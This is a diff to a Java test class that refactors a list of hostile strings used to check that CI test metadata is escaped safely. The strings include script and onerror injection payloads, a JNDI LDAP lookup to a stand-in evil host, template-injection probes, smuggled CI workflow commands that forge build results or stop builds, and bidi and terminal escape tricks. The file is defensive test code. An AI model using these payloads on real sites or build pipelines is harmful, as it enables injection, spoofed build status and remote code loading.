@@ -16,38 +16,41 @@ class HostileTextTest {
   private static final Pattern SERVICE_MESSAGE =
       Pattern.compile("##teamcity\\[testMetadata( [a-zA-Z]+='([ -&(-Z\\\\^-{}~]|\\|.)*+')+\\]");
 
+  private static final List<String> HOSTILE =
+      List.of(
+          "\n\n# A heading\n\n- [x] done",
+          "</code></details><script>alert(1)</script>",
+          "<img src=x onerror=alert(1)>",
+          "![x](https://evil.example/x.png) [a](javascript:alert(1))",
+          "| a | b |\n|---|---|\n| c | d |",
+          "```\n```mermaid\nxychart-beta\n",
+          "` `` ``` ````",
+          "**bold** __x__ ~~y~~ *z*",
+          "@everyone #1 user@example.com https://evil.example www.evil.example",
+          "&lt;b&gt; &#60;b&#62; &amp;",
+          "$x$ $$y$$ \\(z\\)",
+          "<!-- open",
+          "%0A::error title=x::y",
+          "\r\n::error title=x::y\n::stop-commands::z",
+          "::add-mask::PASS",
+          ",title=other::x",
+          "##[error]x ##vso[task.complete result=Succeeded;]",
+          "']\n##teamcity[buildStop comment='x' readdToQueue='true']",
+          "|n|r|'|]|0x0027",
+          "\" 1\n# EOF\nloadline_gate_passed{gate=\"x",
+          "\\\" \\\\ \\n \\",
+          "a#b",
+          "\u202eevil\u202c \u2066x\u2069 \u200b\ufeff",
+          "\u001b[31mred\u001b]8;;https://evil.example\u0007",
+          "\u0000\u0001\u007f\u0085",
+          "\ud800 \udc00\ud83d",
+          "x".repeat(100_000),
+          "<b>".repeat(20_000),
+          "😀".repeat(5_000),
+          "{{7*7}} ${jndi:ldap://evil.example} %s %n {0}");
+
   static List<String> hostile() {
-    return List.of(
-        "\n\n# A heading\n\n- [x] done",
-        "</code></details><script>alert(1)</script>",
-        "<img src=x onerror=alert(1)>",
-        "![x](https://evil.example/x.png) [a](javascript:alert(1))",
-        "| a | b |\n|---|---|\n| c | d |",
-        "```\n```mermaid\nxychart-beta\n",
-        "` `` ``` ````",
-        "**bold** __x__ ~~y~~ *z*",
-        "@everyone #1 user@example.com https://evil.example www.evil.example",
-        "&lt;b&gt; &#60;b&#62; &amp;",
-        "$x$ $$y$$ \\(z\\)",
-        "<!-- open",
-        "%0A::error title=x::y",
-        "\r\n::error title=x::y\n::stop-commands::z",
-        "::add-mask::PASS",
-        ",title=other::x",
-        "##[error]x ##vso[task.complete result=Succeeded;]",
-        "']\n##teamcity[buildStop comment='x' readdToQueue='true']",
-        "|n|r|'|]|0x0027",
-        "\" 1\n# EOF\nloadline_gate_passed{gate=\"x",
-        "\\\" \\\\ \\n \\",
-        "a#b",
-        "\u202eevil\u202c \u2066x\u2069 \u200b\ufeff",
-        "\u001b[31mred\u001b]8;;https://evil.example\u0007",
-        "\u0000\u0001\u007f\u0085",
-        "\ud800 \udc00\ud83d",
-        "x".repeat(100_000),
-        "<b>".repeat(20_000),
-        "😀".repeat(5_000),
-        "{{7*7}} ${jndi:ldap://evil.example} %s %n {0}");
+    return HOSTILE;
   }
 
   @ParameterizedTest
